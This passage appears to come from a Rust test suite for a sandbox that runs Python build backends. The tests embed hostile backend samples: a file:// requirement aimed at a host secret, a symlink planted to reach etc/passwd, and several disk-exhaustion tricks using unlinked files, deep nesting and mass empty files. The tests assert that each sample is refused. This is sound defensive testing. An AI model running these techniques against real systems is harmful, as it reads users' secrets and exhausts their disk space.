        f.write(" " * (5 << 20))
    os._exit(0)
"#,
        &["--wheel"],
        5,
        &["returned a malformed result: output.json is larger than 4194304 bytes"],
    );
}

/// The backend asks for a build requirement that is a URL to a host file: the host would
/// read it for the guest. Build requirements come from the package index only.
#[test]
fn requirement_with_a_direct_url_is_refused() {
    let scene = Scene::build(|scene| {
        let hostile = format!(
            r#"
HOST = {facts}

def get_requires_for_build_wheel(config_settings=None):
    return ["stolen @ file://" + HOST["home_secret"]]
"#,
            facts = host_facts(scene, &[])
        );
        write_project(&scene.project(), &hostile, &[]);
    });
    scene.fails(
        &mut scene.wheel_cmd(&[]),
        4,
        &[
            "(returned by get_requires_for_build_wheel)",
            "caused by: `stolen @ file://",
            "is a direct URL requirement; build requirements must come from a package index",
            "build requirements must come from a package index",
        ],
    );
}

#[test]
fn output_json_as_a_symlink_is_refused() {
    backend_fails(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    os.symlink("../" * 12 + "etc/passwd", "/wasm-build/io/output.json")
    os._exit(0)
"#,
        &["--wheel"],
        5,
        &["returned a malformed result: opening output.json (is it a symlink?)"],
    );
}

/// Empty files and folders hold no bytes but take inodes and folder blocks on the host:
/// each entry counts against the disk limit (4 KiB) besides its bytes. The backend would
/// give up by itself at 200 000 entries; the limit stops it after about 12 800.
#[test]
fn filling_the_scratch_disk_with_empty_files_hits_the_disk_limit() {
    let scene = Scene::with_backend(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    for i in range(200):
        os.mkdir("/tmp/d%d" % i)
        for j in range(1000):
            open("/tmp/d%d/%d" % (i, j), "w").close()
        print("created %d entries" % ((i + 1) * 1001), flush=True)
    return good_wheel(wheel_directory)
"#,
    );
    let stderr = scene.fails(
        &mut scene.wheel_cmd(&["--disk-limit", "50"]),
        6,
        &[
            "disk limit of 50 MiB reached in the sandbox's writable folders",
            "hint: raise the limit with --disk-limit MIB",
        ],
    );
    let created: u64 = stderr
        .lines()
        .filter_map(|l| {
            l.strip_prefix("created ")?
                .strip_suffix(" entries")?
                .parse()
                .ok()
        })
        .max()
        .unwrap_or(0);
    assert!(
        created < 100_000,
        "stopped late: {created} entries\n{stderr}"
    );
}

/// Folders nested far deeper than PATH_MAX (400 levels of 200-character names, each made
/// from the descriptor of the one above) with data at the bottom, in a wasm-build whose
/// open-file limit is 256: what lies down there counts against the disk limit, and the
/// scratch folder is removed all the same (`std::fs::remove_dir_all` needs a descriptor
/// per level and would leave it behind).
#[test]
fn filling_the_scratch_disk_below_path_max_hits_the_disk_limit() {
    let scene = Scene::with_backend(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = "d" * 200
    fd = os.open("/tmp", os.O_RDONLY | os.O_DIRECTORY)
    for depth in range(400):
        os.mkdir(name, dir_fd=fd)
        deeper = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = deeper
    print("nested %d deep" % (depth + 1), flush=True)
    chunk = b"\0" * (10 << 20)
    for i in range(100):
        out = os.open("fill-%d" % i, os.O_WRONLY | os.O_CREAT, dir_fd=fd)
        os.write(out, chunk)
        os.close(out)
        print("wrote %d MiB" % ((i + 1) * 10), flush=True)
    return good_wheel(wheel_directory)
"#,
    );
    let mut cmd = scene.wheel_cmd(&["--disk-limit", "50"]);
    // SAFETY: setrlimit is async-signal-safe; the closure touches nothing else.
    unsafe {
        use std::os::unix::process::CommandExt;
        cmd.pre_exec(|| {
            let limit = libc::rlimit {
                rlim_cur: 256,
                rlim_max: 256,
            };
            if libc::setrlimit(libc::RLIMIT_NOFILE, &limit) == 0 {
                Ok(())
            } else {
                Err(std::io::Error::last_os_error())
            }
        });
    }
    let stderr = scene.fails(
        &mut cmd,
        6,
        &[
            "nested 400 deep",
            "disk limit of 50 MiB reached in the sandbox's writable folders",
            "hint: raise the limit with --disk-limit MIB",
        ],
    );
    assert!(!stderr.contains("wrote 400 MiB"), "stopped late:\n{stderr}");
}

// ---- the disk limit counts every byte where it is written (issue 14, item 2) ------------

const DISK_LIMIT_100: &str = "disk limit of 100 MiB reached in the sandbox's writable folders";

/// The largest N of the guest's lines `{prefix}N{suffix}` in `stderr`, or 0.
fn reported(stderr: &str, prefix: &str, suffix: &str) -> u64 {
    stderr
        .lines()
        // The backend's lines carry the terminal's prefix.
        .filter_map(|l| {
            l.trim_start_matches("│ ")
                .strip_prefix(prefix)?
                .strip_suffix(suffix)?
                .parse()
                .ok()
        })
        .max()
        .unwrap_or(0)
}

/// A file unlinked while open is in no folder, yet fills the disk until it is closed: each
/// write to it counts. The backend writes 1 MiB at a time to one (and gives up by itself at
/// 300 MiB); the write that would pass 100 MiB is refused and the run ends.
#[test]
fn writing_to_an_unlinked_file_hits_the_disk_limit() {
    let scene = Scene::with_backend(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    f = open("/tmp/hidden", "wb")
    os.unlink("/tmp/hidden")
    chunk = b"\0" * (1 << 20)
    for i in range(300):
        f.write(chunk)
        f.flush()
        print("wrote %d MiB" % (i + 1), flush=True)
    f.close()
    return good_wheel(wheel_directory)
"#,
    );
    let stderr = scene.fails(
        &mut scene.wheel_cmd(&["--disk-limit", "100"]),
        6,
        &[DISK_LIMIT_100],
    );
    let written = reported(&stderr, "wrote ", " MiB");
    assert!(
        (95..=100).contains(&written),
        "{written} MiB written\n{stderr}"
    );
}

/// A backend that catches the error of the refused write and builds a wheel anyway does not
/// get one: the refused call ends the run, and the run ends as the disk limit.
#[test]
fn catching_the_disk_error_does_not_escape_the_disk_limit() {
    let scene = Scene::with_backend(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    f = open("/tmp/hidden", "wb")
    os.unlink("/tmp/hidden")
    try:
        for i in range(300):
            f.write(b"\0" * (1 << 20))
            f.flush()
    except OSError as e:
        print("caught %r" % e, flush=True)
    return good_wheel(wheel_directory)
"#,
    );
    let stderr = scene.fails(
        &mut scene.wheel_cmd(&["--disk-limit", "100"]),
        6,
        &[DISK_LIMIT_100],
    );
    assert!(!stderr.contains("caught"), "{stderr}");
}

/// 100 100 empty files and folders (4 KiB each: 391 MiB of a 600 MiB limit), then one file
/// written as fast as the backend can, 16 MiB at a time up to 2 GiB. A check that walks the
/// folders now and then takes longer the more entries there are, and the write outran it by
/// gigabytes; counted where they happen, entries and bytes together stop within one write of
/// the limit.
#[test]
fn many_empty_files_then_a_fast_write_stop_at_the_disk_limit() {
    let scene = Scene::with_backend(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    for i in range(100):
        folder = "/tmp/d%d" % i
        os.mkdir(folder)
        for j in range(1000):
            open("%s/%d" % (folder, j), "w").close()
    print("created 100100 entries", flush=True)
    chunk = b"\0" * (16 << 20)
    with open("/tmp/big", "wb") as f:
        for i in range(128):
            f.write(chunk)
            f.flush()
            print("wrote %d MiB" % ((i + 1) * 16), flush=True)
    return good_wheel(wheel_directory)
"#,
    );
    let stderr = scene.fails(
        &mut scene.wheel_cmd(&["--disk-limit", "600"]),
        6,
        &[
            "created 100100 entries",
            "disk limit of 600 MiB reached in the sandbox's writable folders",
            "hint: raise the limit with --disk-limit MIB",
        ],
    );
    let written = reported(&stderr, "wrote ", " MiB");
    let entries_mib = 100_101 * 4096 / (1 << 20);
    assert!(
        written + entries_mib <= 600 && written + entries_mib + 16 >= 600,
        "{written} MiB written besides {entries_mib} MiB of entries\n{stderr}"
    );
}

/// The ways a file grows other than by writing at its end (with `-C attack=...`, against a
/// 100 MiB limit), and files that still fill the disk after their name is gone:
///
/// - `append`: writes to a file opened for appending, unlinked;
/// - `pwrite`: one byte written at 200 MiB into an unlinked file;
/// - `ftruncate`: an unlinked file made 200 MiB long;
/// - `fallocate`: 200 MiB reserved for an unlinked file, where the interpreter can (WASI's
///   `fd_allocate`; wasmtime-wasi refuses it today, and the file must not have grown);
/// - `open-and-unlinked`: 60 MiB in a file that is unlinked while a reader holds it open,
///   then 60 MiB more in another;
/// - `open-and-renamed-over`: the same, the first file replaced by a rename instead.
///
/// Every one of them is stopped; a check that walks the folders sees none of these bytes.
#[test]
fn growth_that_no_folder_shows_hits_the_disk_limit() {
    let scene = Scene::with_backend(
        r#"
def _hidden(mode="wb"):
    f = open("/tmp/hidden", mode)
    os.unlink("/tmp/hidden")
    return f


def _fill(path, mib):
    with open(path, "wb") as f:
        for i in range(mib):
            f.write(b"\1" * (1 << 20))


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    attack = config_settings["attack"]
    if attack == "append":
        f = _hidden("ab")
        for i in range(200):
            f.write(b"\0" * (1 << 20))
            f.flush()
    elif attack == "pwrite":
        f = _hidden()
        os.pwrite(f.fileno(), b"x", 200 << 20)
    elif attack == "ftruncate":
        f = _hidden()
        os.ftruncate(f.fileno(), 200 << 20)
    elif attack == "fallocate":
        f = _hidden()
        if hasattr(os, "posix_fallocate"):
            try:
                os.posix_fallocate(f.fileno(), 0, 200 << 20)
            except OSError as e:
                print("fallocate refused: %s" % e, flush=True)
        else:
            print("fallocate refused: no posix_fallocate", flush=True)
        print("size after fallocate: %d" % os.fstat(f.fileno()).st_size, flush=True)
        raise SystemExit("the file did not grow")
    elif attack in ("open-and-unlinked", "open-and-renamed-over"):
        _fill("/tmp/first", 60)
        reader = open("/tmp/first", "rb")
        if attack == "open-and-unlinked":
            os.unlink("/tmp/first")
        else:
            _fill("/tmp/small", 1)
            os.replace("/tmp/small", "/tmp/first")
        _fill("/tmp/second", 60)
    print("the file grew", flush=True)
    return good_wheel(wheel_directory)
"#,
    );
    for attack in [
        "append",
        "pwrite",
        "ftruncate",
        "open-and-unlinked",
        "open-and-renamed-over",
    ] {
        let stderr = scene.fails(
            &mut scene.wheel_cmd(&["--disk-limit", "100", "-C", &format!("attack={attack}")]),
            6,
            &[DISK_LIMIT_100],
        );
        assert!(!stderr.contains("the file grew"), "{attack}:\n{stderr}");
    }
    // The interpreter has no posix_fallocate today, and wasmtime-wasi refuses fd_allocate:
    // the file must not have grown, unless the call was counted and refused.
    let output = run(&mut scene.wheel_cmd(&["--disk-limit", "100", "-C", "attack=fallocate"]));
    let stderr = String::from_utf8_lossy(&output.stderr);
    match output.status.code() {
        Some(6) => assert!(stderr.contains(DISK_LIMIT_100), "{stderr}"),
        code => {
            assert_eq!(code, Some(5), "{stderr}");
            assert!(stderr.contains("size after fallocate: 0"), "{stderr}");
        }
    }
    assert!(!scene.out().exists());
    scene.check_host_unchanged();
}

/// What is really freed is given back, so that builds that make and delete temporary files
/// are not charged for them forever. Against a 50 MiB limit, the backend writes 20 MiB at a
/// time, 1.6 GiB in all: a file written, closed and unlinked; rewritten in place
/// (truncating opens); unlinked while open, then closed; written and renamed over the last
/// one; made smaller while open; 20 hard links to one file, kept a second (its bytes count
/// once: a walk of the folders counted them 21 times); and 5 000 empty files made and
/// removed five times.
#[test]
fn freed_files_are_given_back_to_the_disk_limit() {
    let scene = Scene::with_backend(
        r#"
def _fill(f, mib=20):
    for i in range(mib):
        f.write(b"\1" * (1 << 20))


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    for i in range(20):
        with open("/tmp/temporary", "wb") as f:
            _fill(f)
        os.unlink("/tmp/temporary")
    print("written and deleted", flush=True)
    for i in range(20):
        with open("/tmp/rewritten", "wb") as f:
            _fill(f)
    os.unlink("/tmp/rewritten")
    print("rewritten", flush=True)
    for i in range(10):
        with open("/tmp/unlinked", "wb") as f:
            os.unlink("/tmp/unlinked")
            _fill(f)
    print("unlinked while open", flush=True)
    for i in range(10):
        with open("/tmp/next", "wb") as f:
            _fill(f)
        os.replace("/tmp/next", "/tmp/current")
    os.unlink("/tmp/current")
    print("renamed over", flush=True)
    for i in range(10):
        with open("/tmp/shrunk", "wb") as f:
            _fill(f)
            f.truncate(0)
    print("truncated", flush=True)
    with open("/tmp/linked", "wb") as f:
        _fill(f)
    for i in range(20):
        os.link("/tmp/linked", "/tmp/link-%d" % i)
    # Long enough for a check that walks the folders to see the links (and count 420 MiB).
    __import__("time").sleep(1)
    print("hard-linked", flush=True)
    for i in range(20):
        os.unlink("/tmp/link-%d" % i)
    os.unlink("/tmp/linked")
    for round in range(5):
        os.mkdir("/tmp/many")
        for j in range(5000):
            open("/tmp/many/%d" % j, "w").close()
        for j in range(5000):
            os.unlink("/tmp/many/%d" % j)
        os.rmdir("/tmp/many")
    print("made and removed 25000 files", flush=True)
    return good_wheel(wheel_directory)
"#,
    );
    let output = run(&mut scene.wheel_cmd(&["--disk-limit", "50", "-v"]));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "the build failed:\n{stderr}");
    assert!(stderr.contains("made and removed 25000 files"), "{stderr}");
    assert_eq!(listing(&scene.out()), [WHEEL]);
    scene.check_host_unchanged();
}
